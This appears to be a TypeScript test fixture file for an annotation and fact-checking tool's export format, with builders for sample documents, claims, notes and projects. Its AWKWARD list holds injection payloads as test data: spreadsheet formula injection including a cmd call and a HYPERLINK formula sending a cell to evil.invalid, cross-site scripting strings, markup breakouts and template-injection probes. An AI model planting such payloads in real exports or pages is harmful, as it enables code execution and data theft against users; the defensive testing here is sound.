import type { Note } from "@/lib/annotation/annotation";
import type { AnnotationAnswer } from "@/lib/contract/annotation";
import type {
  ExportedClaim,
  ExportedDocument,
  ExportedLink,
  ExportedProject,
} from "@/lib/format/exported";

/** Cells and fields that trip programs that open an export (reliability, P14). */
export const AWKWARD: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\u00a0=1",
  "＝1+1",
  "safe\n=cmd|' /C calc'!A1",
  'safe\u2028=HYPERLINK("http://evil.invalid/?"&A1,"x")',
  'a","b',
  ";=1",
  "\ufeff=1",
  "'=1",
  "''=1",
  "'",
  "'\t",
  "]]><evil/>",
  "--><evil/>",
  "&lt;&amp;",
  "\u000b\ufffe",
  "</script><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "</style><img src=x onerror=alert(1)>",
  "---\ntitle: x\n---",
  "{{7*7}}",
  "${7*7}",
  '{"@context":"http://127.0.0.1:9/ctx","@id":"javascript:alert(1)"}',
  "👩🏽‍🚒 bridge 🌉",
  "أعلن الوزير أنّ الضرائب انخفضت",
  "שלום\u202eabc",
  "line\u0085line\u2029line",
];

const ID = (n: number) => `01920000-0000-7000-8000-${String(n).padStart(12, "0")}`;

const ANA = { id: ID(1), name: "Ana" };

export function document(words = "Harbour traffic"): ExportedDocument {
  const revision = { number: 1, sha256: "ab".repeat(32), createdAt: "2024-03-04T09:00:00.000Z" };
  return {
    id: ID(2),
    title: words,
    author: words,
    speaker: "",
    publisher: "",
    date: "2024-03",
    url: "https://harbour.test/speech",
    language: "en",
    rights: "",
    labels: [{ name: words }],
    revision,
    revisions: [revision],
  };
}

/** A claim with `words` in every free field. */
export function annotation(words: string, rest: Partial<AnnotationAnswer> = {}): AnnotationAnswer {
  return {
    id: ID(3),
    projectId: ID(4),
    documentId: ID(2),
    revision: 1,
    kind: "claim",
    target: [{ start: 4, end: 12, exact: words, prefix: words, suffix: words }],
    tags: ["statistical", words],
    properties: {},
    body: words,
    visibility: "project",
    claim: { id: ID(5), statement: words, type: "factual", checkworthy: true },
    quotation: null,
    rhetoric: null,
    confidence: 3,
    references: [
      {
        id: ID(6),
        annotationId: ID(3),
        relation: "refutes",
        locator: words,
        quote: words,
        source: { id: ID(7), url: words, citation: words, csl: { "@id": words, title: words } },
        createdBy: ANA,
        createdAt: "2024-03-04T10:00:00.000Z",
      },
    ],
    reviews: [
      {
        annotationId: ID(3),
        verdict: "disagree",
        comment: words,
        by: { id: ID(8), name: words },
        updatedAt: "2024-03-05T10:00:00.000Z",
      },
    ],
    occurrences: [],
    attribution: null,
    checks: [],
    was: null,
    noteCount: 1,
    statusOutdated: false,
    statusReason: "",
    status: "disputed",
    anchor: "exact",
    orphan: false,
    createdBy: { id: null, name: words },
    createdAt: "2024-03-04T09:30:00.000Z",
    updatedAt: "2024-03-04T09:31:00.000Z",
    version: 1,
    change: 1,
    ...rest,
  };
}

export function note(words: string, rest: Partial<Note> = {}): Note {
  return {
    id: ID(9),
    annotationId: ID(3),
    replyTo: null,
    body: words,
    createdBy: ANA,
    createdAt: "2024-03-04T11:00:00.000Z",
    updatedAt: "2024-03-04T11:00:00.000Z",
    deletedAt: null,
    resolvedAt: null,
    resolvedBy: null,
    version: 1,
    ...rest,
  };
}

/** A claim of the register with one piece of evidence and `words` in every free field. */
export function claim(words: string): ExportedClaim {
  return {
    id: ID(5),
    statement: words,
    context: words,
    type: "factual",
    checkable: true,
    reason: words,
    verdict: "false",
    rationale: words,
    decidedBy: ANA,
    decidedAt: "2024-03-06T10:00:00.000Z",
    evidence: [
      {
        id: ID(10),
        stance: "refutes",
        directness: "primary",
        note: words,
        quote: words,
        locator: words,
        source: { id: ID(7), url: words, citation: words, csl: { title: words } },
        document: null,
        revision: null,
        target: null,
        anchor: "exact",
        annotationId: null,
        createdBy: ANA,
        createdAt: "2024-03-05T10:00:00.000Z",
      },
    ],
  };
}

/** A project with one of everything and `words` in every free field. */
export function project(words: string): ExportedProject {
  const source = { citation: words, url: words, documentId: null };
  return {
    id: ID(20),
    name: words,
    codebook: {
      relationTypes: [],
      version: 3,
      tags: [
        {
          id: ID(21),
          kind: "rhetoric",
          slug: words,
          label: words,
          definition: words,
          useWhen: words,
          avoidWhen: words,
          examples: [words],
          counterExamples: [words],
          nearMisses: [{ slug: words, question: words }],
          requires: "both",
          justify: true,
          properties: [],
          colour: "#a8480c",
          parent: ID(22),
          mergedInto: null,
          retiredAt: "2024-03-06T10:00:00.000Z",
        },
      ],
    },
    speakers: [
      {
        id: ID(23),
        name: words,
        role: words,
        identifier: words,
        aliases: [words],
        description: words,
      },
    ],
    relations: [
      {
        id: ID(24),
        relation: "reprints",
        note: words,
        viaAnnotationId: ID(3),
        from: { id: ID(25), ...source },
        to: { id: ID(26), ...source },
        createdBy: ANA,
        createdAt: "2024-03-06T10:00:00.000Z",
      },
    ],
    searches: [
      {
        id: ID(27),
        claim: { id: ID(5), statement: words },
        outcome: "not-found",
        place: words,
        by: ANA,
        at: "2024-03-06T10:00:00.000Z",
      },
    ],
  };
}

/** A relation of a sample annotation, as it has it. */
export function link(words: string, rest: Partial<ExportedLink> = {}): ExportedLink {
  return {
    id: "01920000-0000-7000-8000-0000000000e1",
    type: "supports",
    note: words,
    createdBy: { id: null, name: "Bo" },
    createdAt: "2024-03-06T10:00:00.000Z",
    isOutgoing: true,
    wording: "supports",
    other: {
      id: "01920000-0000-7000-8000-000000000901",
      documentId: ID(2),
      title: "Harbour talk",
      kind: "claim",
      anchor: "exact",
      exact: "the other words",
    },
    ...rest,
  };
}
